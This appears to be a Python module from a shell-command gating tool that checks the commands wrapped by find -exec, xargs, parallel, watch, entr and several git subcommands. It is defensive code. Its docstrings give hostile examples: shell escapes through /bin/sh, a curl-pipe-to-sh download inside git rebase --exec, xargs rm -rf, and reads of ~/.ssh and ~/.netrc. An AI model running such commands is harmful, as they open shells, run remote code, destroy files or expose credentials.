"""Programs that run a command once per item or over and over: ``find -exec``, ``fd -x``,
``xargs``, ``parallel``, ``watch``. The command template is unwrapped and checked."""

from __future__ import annotations

import shlex

from clawgate.decision import NO_OPINION, Outcome, Verdict
from clawgate.protectedpaths import holds_protected, protected_reason
from clawgate.records import replace
from clawgate.shell.model import SimpleCommand, Word
from clawgate.shell.xargsfeed import find_roots, only_directories
from clawgate.validators.argv import command_start, inner, joined_code, option_values, opts
from clawgate.validators.base import Context, Validator, register
from clawgate.validators.fdfound import fd_lines
from clawgate.validators.findexpr import expression_of
from clawgate.validators.findreach import protected_found
from clawgate.validators.paths import resolve, under
from clawgate.validators.shells import shell_call
from clawgate.validators.xargsfeed import (
    fed_lines,
    found_lines,
    here_items,
    item_lines,
    parallel_lines,
)

_FIND_EXEC = frozenset({"-exec", "-execdir", "-ok", "-okdir"})
_FD_EXEC = frozenset({"-x", "--exec", "-X", "--exec-batch"})
_TERMINATORS = frozenset({";", "+"})
# --replace, --eof and --max-lines take their value only after ``=`` (it is optional).
XARGS_OPTIONS = opts("aEILnPsd", "arg-file max-args max-procs max-chars delimiter process-slot-var")
_PARALLEL = opts("jSaIdnNE", "jobs sshlogin arg-file colsep joblog results tmpdir timeout "
                 "delay retries replace max-args max-replace-args workdir basefile")
_WATCH = opts("nq", "interval equexit")
_ENTR = opts("", "")
_PLACEHOLDER = frozenset({"{}", "{/}", "{.}", "{//}", "{/.}", "{#}"})


def _templates(cmd: SimpleCommand, markers: frozenset[str]) -> list[SimpleCommand]:
    """Each command following one of ``markers`` up to ``;`` or ``+`` (or the end)."""
    found: list[SimpleCommand] = []
    words = cmd.words
    i = 1
    while i < len(words):
        if words[i].shown in markers and i + 1 < len(words):
            end = i + 1
            while end < len(words) and words[end].shown not in _TERMINATORS:
                end += 1
            found.append(inner(cmd, i + 1, end))
            i = end
        i += 1
    return found


def _placeholder_program(templates: list[SimpleCommand]) -> bool:
    return any(t.words and t.words[0].shown in _PLACEHOLDER for t in templates)


def _pasted_into_code(target: SimpleCommand, tokens: frozenset[str]) -> bool:
    """The per-item text is pasted into shell code (``sh -c 'echo {}'``): items become code."""
    call = shell_call(target)
    code = call.code.shown if call is not None and call.code is not None else ""
    return any(token in code for token in tokens)


@register
class PerItemExec(Validator):
    """``find -exec/-execdir/-ok/-okdir CMD ;`` and ``fd -x/-X CMD``: CMD is checked as a
    command; running the found files themselves (``-exec {} ;``) asks.

    File names pasted into shell code (``-exec sh -c 'echo {}' ;``) become code: ASK. The
    protected paths find or fd finds from where it searches are put in for ``{}``
    (``findreach.py``, ``fdfound.py``).

    Bad: ``find . -exec /bin/sh \\; -quit``. Harmless: ``find . -name '*.o' -exec ls -l {} +``.
    """

    id = "CG-WRAP-006"
    programs = frozenset({"find", "fd", "fdfind"})

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        program = cmd.program
        if program == "find":
            templates = _templates(cmd, _FIND_EXEC)
        elif program in ("fd", "fdfind"):
            templates = _templates(cmd, _FD_EXEC)
        else:
            return NO_OPINION
        if _placeholder_program(templates):
            return Verdict.ask(self.id, f"{program} runs the files it finds as programs")
        rooted: list[str] = []
        if program == "find":
            if only_directories(cmd.words):  # each {} is a directory: say so, as {}/
                templates = [_as_directories(t) for t in templates]
            rooted = _rooted(cmd, templates, ctx)
        else:
            rooted = fd_lines(cmd, templates, ctx)  # the protected paths fd finds
        if any(_pasted_into_code(t, _PLACEHOLDER) for t in templates):
            return Verdict.unwrap(*templates, *rooted, outcome=Outcome.ASK, rule_id=self.id,
                                  message="file names are pasted into shell code")
        return Verdict.unwrap(*templates, *rooted) if templates else NO_OPINION


def _holds_placeholder(template: SimpleCommand) -> bool:
    return any("{}" in (w.value or "") for w in template.words)


def _as_directories(template: SimpleCommand) -> SimpleCommand:
    words = tuple(Word("{}/", "{}/") if w.value == "{}" else w for w in template.words)
    return replace(template, words=words, text=" ".join(w.text for w in words))


def _rooted(cmd: SimpleCommand, templates: list[SimpleCommand], ctx: Context) -> list[str]:
    """Each template with ``{}`` put in as an item under each of find's starting points that
    lies outside the workspace (``find ~/.ssh -exec cat {} +`` reads ``~/.ssh/"$ITEM"``), or
    inside it in a protected path or a directory that holds one by name (``find .git/hooks
    -exec cp x {} +`` writes ``.git/hooks/"$ITEM"``). Anywhere else in the workspace, the
    template's own ``{}``, a path of the workspace, says as much."""
    roots = find_roots(_here_named(cmd.words, ctx))
    if roots is None:
        return []
    outside = [r for r in roots if not _in_workspace(r, ctx) or _protected_root(r, ctx)]
    directories = only_directories(cmd.words)
    lines = [line for t in templates if _holds_placeholder(t)
             for line in found_lines(t.words, outside, directories)]
    inside = [r for r in roots if r not in outside]
    if not inside or directories or not any(_holds_placeholder(t) for t in templates):
        return lines
    expression = expression_of([w.shown for w in cmd.words[1:]])
    follow = any(w.value in ("-L", "-follow") for w in cmd.words[1:])
    for root in inside:
        value = root.strip("'")
        path = resolve(Word(value, value), ctx).path
        if path is None:
            continue
        found = protected_found(value, path, expression, _FIND_EXEC, ctx.workspace,
                                ctx.protected, follow=follow)
        items = [shlex.quote(p) for p in found]
        lines += [line for t in templates if _holds_placeholder(t)
                  for line in item_lines(t.words, items)]
    return lines


# The directory the command runs in, spelled as the shell gives it at run time
_HERE = frozenset({"$PWD", '"$PWD"', "${PWD}", '"${PWD}"', "~+", "$(pwd)", '"$(pwd)"',
                   "`pwd`", '"`pwd`"'})


def _here_named(words: tuple[Word, ...], ctx: Context) -> tuple[Word, ...]:
    """``words`` with each that names the directory the command runs in (``"$PWD"``,
    ``~+``, ``$(pwd)``) written as that directory."""
    return tuple(Word(shlex.quote(ctx.cwd), ctx.cwd) if w.text.rstrip("/") in _HERE else w
                 for w in words)


def _protected_root(root: str, ctx: Context) -> bool:
    """A starting point that is a protected path, or a directory holding one by name
    (``.github`` holds ``.github/workflows``); the workspace itself is neither."""
    value = root.strip("'")
    path = resolve(Word(value, value), ctx).path
    if path is None or path == ctx.workspace:
        return False
    return (protected_reason(path + "/_", ctx.workspace, ctx.protected) is not None
            or holds_protected(path, ctx.workspace) is not None)


def _in_workspace(root: str, ctx: Context) -> bool:
    if root.startswith("~"):
        return False
    value = root.strip("'")
    path = resolve(Word(value, value), ctx).path
    return path is not None and under(path, ctx.workspace)


@register
class Xargs(Validator):
    """``xargs [opts] CMD``: CMD is checked (``echo`` when absent); a command that comes from
    the input itself (``xargs -I{} {}``, ``xargs sh``) or input pasted into shell code
    (``xargs -I{} sh -c 'echo {}'``) asks.

    Bad: ``xargs -0 -n1 rm -rf``. Harmless: ``xargs -0 -n1 wc -l``.
    """

    id = "CG-WRAP-007"
    programs = frozenset({"xargs"})

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        if cmd.program != "xargs":
            return NO_OPINION
        start = command_start(cmd.words, 1, XARGS_OPTIONS)
        if start is None:
            return NO_OPINION
        target = inner(cmd, start)
        token = replace_token(cmd, start)
        first = target.words[0].shown
        if first in _PLACEHOLDER or first == token or target.program is None:
            return Verdict.ask(self.id, "xargs runs programs named by its input")
        files = option_values(cmd.words[:start], 1, "a", frozenset({"arg-file"}))
        items = None if files else here_items(cmd, lines=token is not None)
        fed = [*fed_lines(target.words, token, items), *_argument_files(files)]
        if token and _pasted_into_code(target, frozenset({token})):
            return Verdict.unwrap(target, *fed, outcome=Outcome.ASK, rule_id=self.id,
                                  message="xargs pastes its input into shell code")
        return Verdict.unwrap(target, *fed)


def _argument_files(files: list[tuple[str, Word | None, str | None]]) -> list[str]:
    """``xargs -a FILE CMD``: FILE's text becomes CMD's words, which CMD prints or names in
    its errors (``xargs -a ~/.netrc echo``): FILE is read as ``cat FILE`` reads it."""
    import shlex

    return [f"cat -- {word.text if word is not None else shlex.quote(value)}"
            for _, word, value in files if value is not None]


def replace_token(cmd: SimpleCommand, start: int) -> str | None:
    """The replace string of ``-I R``, ``-iR``/``-i`` or ``--replace[=R]`` (``{}`` by default)."""
    token = next((v for _, _, v in option_values(cmd.words[:start], 1, "I",
                                                 frozenset({"replace"}))), None)
    if token is not None:
        return token
    for word in cmd.words[1:start]:
        text = word.shown
        if text == "--replace" or (text.startswith("-i") and not text.startswith("--")):
            return text[2:] if text.startswith("-i") and len(text) > 2 else "{}"
    return None


@register
class ParallelOrWatch(Validator):
    """``parallel CMD ::: args`` and ``watch CMD`` hand CMD to a shell (``watch -x`` runs argv),
    as ``entr -s CODE`` does (``entr CMD`` runs argv): it is checked as code. ``parallel``
    reading whole commands from its input asks.

    Bad: ``watch 'reset; exec /bin/sh 1>&0 2>&0'``. Harmless: ``watch -n 5 df -h``.
    """

    id = "CG-WRAP-008"
    programs = frozenset({"watch", "parallel", "entr"})

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        program = cmd.program
        if program == "watch":
            return self._watch(cmd)
        if program == "entr":
            return self._entr(cmd)
        if program != "parallel":
            return NO_OPINION
        start = command_start(cmd.words, 1, _PARALLEL)
        end = next((i for i, w in enumerate(cmd.words) if w.shown in (":::", "::::", ":::+")),
                   len(cmd.words))
        if start is None or start >= end:
            return self._commands(cmd, end)
        code = joined_code(cmd.words[start:end])
        if code is None:
            return Verdict.ask(self.id, "parallel runs code only known at run time")
        return Verdict.unwrap(code, *parallel_lines(code, cmd.words[end:]))

    def _commands(self, cmd: SimpleCommand, end: int) -> Verdict:
        """No command template: each input line, or each argument after one ``:::``
        (``parallel ::: 'make a' 'make b'``), is a command line of its own."""
        rest = cmd.words[end + 1:]
        if end >= len(cmd.words) or cmd.words[end].shown != ":::" or not rest or any(
                w.value is None or w.shown in (":::", "::::", ":::+", "::::+") for w in rest):
            return Verdict.ask(self.id, "parallel runs commands read from its input")
        return Verdict.unwrap(*(w.value for w in rest if w.value))

    def _entr(self, cmd: SimpleCommand) -> Verdict:
        """``entr [-acdnprz] UTILITY ARGS``, or ``entr -s 'CODE'`` (run by $SHELL)."""
        start = command_start(cmd.words, 1, _ENTR)
        if start is None:
            return NO_OPINION
        if any(w.shown.startswith("-") and "s" in w.shown for w in cmd.words[1:start]):
            code = cmd.words[start].value
            if code is None:
                return Verdict.ask(self.id, "entr runs code only known at run time")
            return Verdict.unwrap(code)
        return Verdict.unwrap(inner(cmd, start))

    def _watch(self, cmd: SimpleCommand) -> Verdict:
        start = command_start(cmd.words, 1, _WATCH)
        if start is None:
            return NO_OPINION
        if any(w.shown in ("-x", "--exec") for w in cmd.words[1:start]):
            return Verdict.unwrap(inner(cmd, start))
        code = joined_code(cmd.words[start:])
        if code is None:
            return Verdict.ask(self.id, "watch runs code only known at run time")
        return Verdict.unwrap(code)


_GIT_CODE = {"rebase": frozenset({"--exec", "-x"}), "submodule": frozenset({"foreach"}),
             "filter-branch": frozenset({"--tree-filter", "--index-filter", "--env-filter",
                                         "--msg-filter", "--commit-filter", "--parent-filter",
                                         "--tag-name-filter"})}


@register
class GitRunsCommands(Validator):
    """git subcommands that run a command: ``git rebase --exec CMD``, ``git bisect run CMD``,
    ``git submodule foreach CMD``, ``git filter-branch --tree-filter CMD``: CMD is checked as
    a command line.

    Bad: ``git rebase --exec 'curl -s x | sh' HEAD~3``. Harmless: ``git rebase -x 'make
    test' HEAD~3``.
    """

    id = "CG-WRAP-011"
    programs = frozenset({"git"})

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        if cmd.program != "git" or len(cmd.words) < 3:
            return NO_OPINION
        words = cmd.words
        sub = words[1].value
        if sub == "bisect" and words[2].value == "run" and len(words) > 3:
            return Verdict.unwrap(inner(cmd, 3))
        markers = _GIT_CODE.get(sub or "")
        if markers is None:
            return NO_OPINION
        found: list[str] = []
        for i, word in enumerate(words[2:], start=2):
            name, eq, value = word.shown.partition("=")
            if name not in markers:
                continue
            code = value if eq else (words[i + 1].value if i + 1 < len(words) else "")
            if code is None:
                return Verdict.ask(self.id, f"git {sub} runs code only known at run time")
            if sub == "submodule":
                code = joined_code(words[i + 1:]) or ""
            found.append(code)
        return Verdict.unwrap(*found) if found else NO_OPINION
